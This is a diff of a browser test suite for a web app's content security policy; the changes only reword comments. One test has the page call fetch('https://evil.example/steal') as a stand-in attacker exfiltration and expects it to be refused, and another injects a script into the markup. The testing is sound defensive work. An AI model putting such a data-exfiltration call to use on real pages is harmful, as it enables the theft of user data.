@@ -1,4 +1,4 @@
-/** What a browser makes of the content security policies: see also tests/setup/no-policy-violations.ts. */
+/** Content security policies in a browser: see also tests/setup/no-policy-violations.ts. */
 import type {Page} from 'playwright-core'
 import {expect} from 'vitest'
 import {openPage} from '../helpers/open-browser.ts'
@@ -9,7 +9,7 @@ import {eventually, test} from '../helpers/visit.ts'
 const ADMIN = {id: 'a', name: 'Asha', email: 'asha@clinic.example', role: 'admin'} as const
 const USER = {...ADMIN, role: 'user'} as const
 
-/** Down to the end, so that what waits to be seen is loaded. */
+/** Scrolls to the end, so that lazy content is loaded. */
 async function seeAll(page: Page): Promise<void> {
   for (const share of [0.5, 1]) {
     await page.evaluate((part) => scrollTo(0, document.body.scrollHeight * part), share)
@@ -17,7 +17,7 @@ async function seeAll(page: Page): Promise<void> {
   await page.getByRole('contentinfo').getByRole('link').first().waitFor()
 }
 
-// Each page as it loads: accessibility.test.ts and the check that all tests end with.
+// Page loads are covered by accessibility.test.ts and by the check after every test.
 test('film and map ask for nothing that is forbidden', async ({visit}) => {
   const page = await visit('/', MAP)
   const film = page.locator('video')
@@ -86,7 +86,7 @@ test('what an attacker would add to a page neither runs nor loads', async ({brow
     const refusedOf = (attempt: Promise<unknown>) => attempt.then(String, () => 'refused')
     return {
       fetched: await refusedOf(fetch('https://evil.example/steal')),
-      // In a task of its own, for what a debugger evaluates is exempt.
+      // In a separate task, because code that a debugger evaluates is exempt from the policy.
       evaluated: await new Promise((done) =>
         setTimeout(() => {
           try {
@@ -130,7 +130,7 @@ test('a script that slipped into the markup itself does not run', async ({browse
   const {page} = await openPage(browser, site.url)
   const html = await (await fetch(`${site.url}/faq`)).text()
   const {headers} = await fetch(`${site.url}/faq`)
-  // The page as it would be if something had written into it on its way: same policy.
+  // The page with an injected script and with its original policy.
   await page.route('**/faq', (route) =>
     route.fulfill({
       headers: Object.fromEntries(headers),
